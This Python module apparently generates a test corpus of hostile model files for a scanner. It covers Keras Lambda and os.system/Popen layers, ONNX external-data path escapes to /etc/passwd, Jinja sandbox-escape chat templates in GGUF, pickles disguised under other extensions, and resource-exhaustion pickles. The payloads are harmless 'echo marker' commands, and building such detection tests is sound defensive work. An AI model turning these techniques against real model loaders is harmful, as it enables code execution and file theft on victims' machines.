"""Keras, ONNX, GGUF and safetensors files: code and paths where numbers and layers are expected."""

import base64
import io
import json
import marshal
import struct

import h5py
import numpy as np
import onnx
from onnx import helper, numpy_helper

from archives import zipped

COMMAND = "echo marker"
LAMBDA = "https://docs.keras.io/api/layers/core_layers/lambda/"
CVE_FUNCTION = "CVE-2025-1550"
HEROES = "CVE-2025-8747"


def marshalled():
    """Byte code of a function that prints; compiled, never called."""
    return base64.b64encode(marshal.dumps(compile("print('marker')", "f", "exec"))).decode()


def function_lambda():
    return {"class_name": "__lambda__", "config": {"code": marshalled(), "defaults": None, "closure": None}}


def layer(class_name, module="keras.layers", registered=None, **config):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": registered}


def dense(name="dense", **more):
    return layer("Dense", name=name, units=3, **more)


def lambda_layer(name="trick"):
    return layer("Lambda", name=name, function=function_lambda())


def sequential(*layers):
    return layer("Sequential", "keras", name="model", layers=list(layers))


def functional(*layers):
    return layer("Functional", "keras.src.models.functional", "Functional", name="model", layers=list(layers), input_layers=[], output_layers=[])


def weights(kind):
    """An empty file of weights."""
    out = io.BytesIO()
    if kind.endswith(".npz"):
        np.savez(out)
    else:
        with h5py.File(out, "w") as file:
            file.create_group("layers")
    return out.getvalue()


def keras_zip(config, metadata=True, file="model.weights.h5", before=(), after=(), weight=None):
    text = config if isinstance(config, bytes) else json.dumps(config).encode()
    entries = [*before]
    if metadata:
        entries.append(("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2024-01-01"}).encode()))
    entries += [("config.json", text), (file, weight or weights(file)), *after]
    return zipped(entries)


def keras_h5(config, **attributes):
    out = io.BytesIO()
    with h5py.File(out, "w", track_order=False) as file:
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["backend"] = "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        for key, value in attributes.items():
            file.attrs[key] = json.dumps(value)
        file.create_group("model_weights")
    return out.getvalue()


def keras_files(evil):
    """(file, technique, source, bytes)"""
    called = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    yield "lambda_sequential.keras", "a Lambda layer in a Sequential model", LAMBDA, keras_zip(sequential(dense(), lambda_layer()))
    yield "lambda_functional.keras", "a Lambda layer in a functional model", LAMBDA, keras_zip(functional(dense(), lambda_layer()))
    yield "lambda_nested.keras", "a Lambda layer in a model in a model", LAMBDA, keras_zip(functional(sequential(sequential(lambda_layer()))))
    yield "lambda_wrapped.keras", "a Lambda layer inside TimeDistributed", LAMBDA, keras_zip(sequential(layer("TimeDistributed", layer=lambda_layer())))
    yield "lambda_old_format.keras", "a Lambda whose function is written as Keras 2 did", LAMBDA, keras_zip(
        sequential({"class_name": "Lambda", "config": {"function": [marshalled(), None, None], "function_type": "lambda"}}))
    yield "lambda_registered.keras", "a Lambda under a registered name of its own", LAMBDA, keras_zip(sequential(
        layer("Lambda", "keras.src.layers.core.lambda_layer", "Custom>Lambda", function=function_lambda())))
    yield "lambda_named_dense.keras", "a Lambda layer named dense", LAMBDA, keras_zip(sequential(lambda_layer("dense")))
    yield "lambda_as_activation.keras", "byte code as a layer's activation", LAMBDA, keras_zip(sequential(dense(activation=function_lambda())))
    yield "lambda_as_initializer.keras", "byte code as an initialiser", LAMBDA, keras_zip(sequential(dense(kernel_initializer=function_lambda())))
    yield "lambda_in_compile.keras", "byte code as the loss the model is compiled with", LAMBDA, keras_zip(
        {**sequential(dense()), "compile_config": {"loss": function_lambda()}})
    yield "lambda_escaped.keras", "the class name is written with escapes", LAMBDA, keras_zip(
        json.dumps(sequential(lambda_layer())).replace('"Lambda"', '"\\u004cambda"').replace('"__lambda__"', '"__\\u006cambda__"').encode())
    yield "lambda_repeated_key.keras", "the class name is given twice; Python takes the last", LAMBDA, keras_zip(
        b'{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", '
        b'"class_name": "Lambda", "config": {"function": {"class_name": "Dense", "class_name": "__lambda__", "config": {"code": "' + marshalled().encode()
        + b'"}}}}]}}')
    deep = lambda_layer()
    for _ in range(70):
        deep = sequential(deep)
    yield "lambda_deep.keras", "a Lambda layer under seventy models", LAMBDA, keras_zip(deep)
    yield "function_activation.keras", "an activation that is os.system", CVE_FUNCTION, keras_zip(sequential(dense(activation=called)))
    yield "class_os_system.keras", "a layer of class system, module os", CVE_FUNCTION, keras_zip(sequential(layer("system", "os", command=COMMAND)))
    yield "class_popen.keras", "a layer of class Popen, module subprocess", CVE_FUNCTION, keras_zip(sequential(layer("Popen", "subprocess", args=["echo", "marker"])))
    yield "class_eval.keras", "a layer of class eval, module builtins", CVE_FUNCTION, keras_zip(sequential(layer("eval", "builtins", source="print('marker')")))
    yield "class_partial.keras", "functools.partial as a layer", CVE_FUNCTION, keras_zip(sequential(layer("partial", "functools", func=called)))
    yield "class_run_path.keras", "runpy.run_path, keyed by a registered name", CVE_FUNCTION, keras_zip(
        sequential(layer("function", "runpy", "run_path", path_name="/tmp/marker.py")))
    yield "class_in_loss.keras", "the loss is a function of os", CVE_FUNCTION, keras_zip({**sequential(dense()), "compile_config": {"loss": called}})
    yield "class_own_package.keras", "a layer class of a package nobody knows", CVE_FUNCTION, keras_zip(sequential(layer("Net", "modelhub_utils.layers", "Custom>Net")))
    yield "unsafe_switched_on.keras", "calls keras.config.enable_unsafe_deserialization first", "CVE-2025-9906", keras_zip(sequential(
        layer("function", "keras.config", "function", name="enable_unsafe_deserialization"),
        {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}, "registered_name": None}))
    yield "get_file.keras", "keras.utils.get_file fetches and unpacks a file", HEROES, keras_zip(sequential(
        layer("get_file", "keras.utils", origin="http://127.0.0.1:9/x.tar", extract=True, cache_dir="/tmp")))
    yield "get_file_as_activation.keras", "keras.utils.get_file as an activation", HEROES, keras_zip(sequential(
        dense(activation={"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"})))
    yield "load_model.keras", "keras.models.load_model of another file", HEROES, keras_zip(sequential(layer("load_model", "keras.models", filepath="/tmp/x.h5")))
    yield "torch_module.keras", "TorchModuleWrapper, which loads a torch pickle from the configuration", "CVE-2025-49655", keras_zip(sequential(
        {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": base64.b64encode(evil).decode()}, "registered_name": None}))
    yield "tfsm_layer.keras", "TFSMLayer, which loads a SavedModel from elsewhere", "CVE-2026-1462", keras_zip(sequential(
        layer("TFSMLayer", "keras.layers", filepath="//127.0.0.1/share/model", call_endpoint="serve")))
    yield "string_lookup.keras", "StringLookup reads its vocabulary from /etc/passwd", "CVE-2025-12058", keras_zip(sequential(
        layer("StringLookup", "keras.layers", vocabulary="/etc/passwd")))
    yield "string_lookup_url.keras", "StringLookup fetches its vocabulary", "CVE-2025-12058", keras_zip(sequential(
        layer("StringLookup", "keras.layers", vocabulary="http://127.0.0.1:9/vocabulary.txt")))
    yield "no_metadata.keras", "a Lambda layer in an archive without metadata", "keras.saving reads config.json and weights alone", keras_zip(
        sequential(lambda_layer()), metadata=False, file="model.weights.npz")
    yield "decoy_pickle.keras", "a harmless data.pkl beside the Lambda layer", "keras.saving", keras_zip(
        sequential(lambda_layer()), after=[("archive/data.pkl", b"\x80\x02N.")])
    yield "decoy_config.keras", "two config.json, the last with a Lambda layer; Python reads the last", "keras.saving", keras_zip(
        sequential(lambda_layer()), before=[("config.json", json.dumps(sequential(dense())).encode())])
    prefixed = keras_zip(sequential(lambda_layer()))
    yield "bytes_before.keras", "bytes before the archive, which zipfile skips", "zipfile.is_zipfile", b"#!marker\n" + prefixed
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    yield "safetensors_before.keras", "a whole safetensors file before the archive", "zipfile.is_zipfile", struct.pack("<Q", len(header)) + header + bytes(4) + prefixed
    yield "pickle_before.keras", "a whole harmless pickle before the archive", "zipfile.is_zipfile", b"\x80\x02N." + prefixed
    yield "lambda.h5", "a Lambda layer in HDF5", "CVE-2025-9905", keras_h5(sequential(dense(), lambda_layer()))
    yield "lambda_old.h5", "a Lambda layer in HDF5 as Keras 2 writes it", "CVE-2025-9905", keras_h5(
        {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": [marshalled(), None, None], "function_type": "lambda"}}]}})
    yield "function.h5", "a layer class of os in HDF5", CVE_FUNCTION, keras_h5(sequential(layer("system", "os", command=COMMAND)))
    yield "lambda_training.h5", "byte code in the training configuration", "CVE-2025-9905", keras_h5(sequential(dense()), training_config={"loss": function_lambda()})
    linked = io.BytesIO()
    with h5py.File(linked, "w") as file:
        file.attrs["model_config"] = json.dumps(sequential(dense()))
        file["model_weights"] = h5py.ExternalLink("../../../etc/marker.h5", "/")
    yield "external_link.h5", "the weights are a link to another file", "CVE-2026-1669", linked.getvalue()
    stored = io.BytesIO()
    with h5py.File(stored, "w") as file:
        file.attrs["model_config"] = json.dumps(sequential(dense()))
        file.create_dataset("layers/dense/vars/0", (16,), "u1", external=[("/etc/passwd", 0, 16)])
    yield "external_storage.h5", "the weights are bytes of another file", "CVE-2026-1669", stored.getvalue()
    yield "external_storage.keras", "the same in the weights of an archive", "CVE-2026-1669", keras_zip(sequential(dense()), weight=stored.getvalue())


def weight(location=None, name="w", **more):
    tensor = numpy_helper.from_array(np.arange(32, dtype=np.float32).reshape(8, 4), name)
    if location is not None:
        tensor.ClearField("raw_data")
        tensor.data_location = onnx.TensorProto.EXTERNAL
        tensor.external_data.add(key="location", value=location)
        for key, value in more.items():
            tensor.external_data.add(key=key, value=value)
    return tensor


def graph(nodes, initializers, name="g"):
    x = helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1, 8])
    y = helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 4])
    return helper.make_graph(nodes, name, [x], [y], initializers)


def onnx_model(nodes, initializers, **more):
    return helper.make_model(graph(nodes, initializers), **more)


def onnx_files():
    """(file, technique, source, bytes)"""
    multiply = helper.make_node("MatMul", ["x", "w"], ["y"])

    def escape(location, **more):
        return onnx_model([multiply], [weight(location, **more)]).SerializeToString()

    first, second, third = "CVE-2022-25882", "CVE-2024-27318", "CVE-2026-27489"
    for file, location, source in (
        ("parent", "../../../etc/passwd", first),
        ("absolute", "/etc/passwd", first),
        ("hidden_parent", "data/../../../etc/passwd", second),
        ("dot_parent", "./../etc/passwd", second),
        ("backslashes", "..\\..\\windows\\win.ini", first),
        ("mixed_slashes", "data/..\\../etc/passwd", second),
        ("drive", "C:\\windows\\win.ini", first),
        ("share", "\\\\127.0.0.1\\share\\weights", first),
        ("share_slashes", "//127.0.0.1/share/weights", first),
        ("only_parent", "..", second),
        ("trailing_parent", "data/..//..//x", third),
    ):
        yield f"escape_{file}.onnx", f"external data at {location}", source, escape(location)
    inner = weight("../secret", "c")
    constant = helper.make_node("Constant", [], ["c"])
    constant.attribute.append(onnx.AttributeProto(name="value", type=onnx.AttributeProto.TENSOR, t=inner))
    yield "escape_constant.onnx", "external data of a Constant node outside the folder", third, onnx_model([constant, multiply], [weight()]).SerializeToString()
    branch = helper.make_graph([constant], "b", [], [helper.make_tensor_value_info("c", onnx.TensorProto.FLOAT, [8, 4])])
    conditional = helper.make_node("If", ["x"], ["y"], then_branch=branch, else_branch=branch)
    yield "escape_subgraph.onnx", "the same inside an If", third, onnx_model([conditional], []).SerializeToString()
    part = helper.make_graph([multiply], "b", [], [helper.make_tensor_value_info("y", onnx.TensorProto.FLOAT, [1, 4])], [weight("../secret")])
    yield "escape_subgraph_weight.onnx", "a weight inside an If, outside the folder", third, onnx_model(
        [helper.make_node("If", ["x"], ["y"], then_branch=part, else_branch=part)], []).SerializeToString()
    function = helper.make_function("local", "F", ["x"], ["y"], [constant, helper.make_node("MatMul", ["x", "c"], ["y"])], [helper.make_opsetid("", 17)])
    called = helper.make_node("F", ["x"], ["y"], domain="local")
    yield "escape_function.onnx", "the same inside a function of the model", third, onnx_model(
        [called], [], functions=[function], opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)]).SerializeToString()
    sparse = onnx.SparseTensorProto(values=weight("../secret", "s"), indices=numpy_helper.from_array(np.arange(32), "i"), dims=[64])
    model = onnx_model([multiply], [weight()])
    model.graph.sparse_initializer.append(sparse)
    yield "escape_sparse.onnx", "the values of a sparse tensor, outside the folder", third, model.SerializeToString()
    model = onnx_model([multiply], [weight()])
    model.training_info.append(onnx.TrainingInfoProto(initialization=helper.make_graph([], "t", [], [], [weight("../secret", "t")])))
    yield "escape_training.onnx", "a tensor of the training graph, outside the folder", third, model.SerializeToString()
    model = onnx_model([multiply], [weight("weights.bin")])
    model.graph.initializer[0].external_data.add(key="location", value="../secret")
    yield "escape_two_locations.onnx", "two locations, the last outside the folder", third, model.SerializeToString()
    fields = helper.make_model(graph([multiply], [weight("../secret")]))
    body = fields.graph.SerializeToString()
    length, varint = len(body), b""
    while True:
        varint += bytes([length & 0x7F | (0x80 if length > 0x7F else 0)])
        length >>= 7
        if not length:
            break
    fields.ClearField("graph")
    yield "escape_graph_first.onnx", "the graph stands before the version, which protobuf allows", third, b"\x3a" + varint + body + fields.SerializeToString()
    yield "custom_domain.onnx", "an operator of a private library", "https://onnxruntime.ai/docs/reference/operators/add-custom-op.html", onnx_model(
        [helper.make_node("Run", ["x", "w"], ["y"], domain="com.example.tricks")], [weight()]).SerializeToString()
    yield "custom_like_known.onnx", "a private domain that looks like a known one", "own", onnx_model(
        [helper.make_node("MatMul", ["x", "w"], ["y"], domain="ai.onnx.mi")], [weight()]).SerializeToString()
    tricky = helper.make_graph([helper.make_node("Run", ["x"], ["c"], domain="com.example.tricks")], "b", [], [helper.make_tensor_value_info("c", 1, [8, 4])])
    yield "custom_subgraph.onnx", "the same inside an If", "own", onnx_model(
        [helper.make_node("If", ["x"], ["y"], then_branch=tricky, else_branch=tricky)], []).SerializeToString()
    holder = helper.make_function("local", "F", ["x"], ["y"], [helper.make_node("Run", ["x"], ["y"], domain="com.example.tricks")],
                                  [helper.make_opsetid("com.example.tricks", 1)])
    yield "custom_function.onnx", "the same inside a function of the model", "own", onnx_model(
        [called], [], functions=[holder], opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("local", 1)]).SerializeToString()


def gguf_string(value):
    raw = value.encode()
    return struct.pack("<Q", len(raw)) + raw


def gguf(**texts):
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(texts) + 1)
    out += gguf_string("general.architecture") + struct.pack("<I", 8) + gguf_string("llama")
    for key, value in texts.items():
        out += gguf_string(key.replace("__", ".")) + struct.pack("<I", 8) + gguf_string(value)
    return out + bytes(-len(out) % 32)


def templates():
    """Chat templates that leave Jinja's sandbox where a program renders them without one."""
    source = "CVE-2024-34359"
    walk = "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    walk += "{{ c()._module.__builtins__['__import__']('os').popen('echo marker').read() }}{% endif %}{% endfor %}"
    for file, template in (
        ("subclasses", walk),
        ("cycler", "{{ cycler.__init__.__globals__.os.popen('echo marker').read() }}"),
        ("namespace", "{{ namespace.__init__.__globals__['o' ~ 's'].system('echo marker') }}"),
        ("attr_filter", "{{ lipsum|attr('__glo' ~ 'bals__')|attr('get')('os')|attr('popen')('echo marker') }}"),
        ("escaped", "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['os'].popen('echo marker') }}"),
        ("format", "{{ '%c%c' % (95, 95) }}{{ ''[('%c%cclass%c%c' % (95, 95, 95, 95))] }}"),
    ):
        yield f"{file}.gguf", f"chat template that reaches functions through {file.replace('_', ' ')}", source, gguf(tokenizer__chat_template=template)


def lies(evil, broken):
    """(file, technique, source, bytes): hostile content under the name of another format."""
    source = "CVE-2025-10155"
    for ending in ("safetensors", "onnx", "gguf", "json", "txt", "bin", "npz", "h5", "keras", "pb", "tflite", "dat", "p", "pickle", "ckpt", "model", "pdparams", "png"):
        yield f"pickle.{ending}", f"a pickle named .{ending}", source, evil
    yield "pickle_without_ending", "a pickle without ending", source, evil
    yield "old_pickle.safetensors", "a pickle of protocol 0 named .safetensors", source, b"cos\nsystem\n(Vecho marker\ntR."
    yield "broken.bin", "a pickle that breaks after the call, named .bin", source, broken
    from archives import torch_zip

    for ending in ("safetensors", "zip", "bin", "npz", "pkl", "txt"):
        yield f"torch.{ending}", f"a torch archive named .{ending}", source, torch_zip(evil)


def exhaustion():
    """Pickles that name only what rebuilds data, and take all memory or time."""
    import zlib

    from opcodes import Ops, call, name, pickled

    source = "https://docs.python.org/3/library/pickle.html"
    pair = Ops(b"N" + b"2\x86" * 60)
    yield "hash.pkl", "a dictionary's key of pairs in pairs, whose hash takes for ever", source, b"\x80\x04}" + pair + b"Ns."
    yield "bytearray.pkl", "a bytearray of a terabyte", source, pickled(call(name("builtins", "bytearray"), 10**12))
    yield "range.pkl", "a list of a hundred thousand million numbers", source, pickled(call(name("builtins", "list"), call(name("builtins", "range"), 10**11)))
    yield "unpacked.joblib", "a pickle of 400 MB that packs into 400 kB", source, zlib.compress(b"\x80\x04" + b"N0" * 200_000_000 + b"N.", 1)
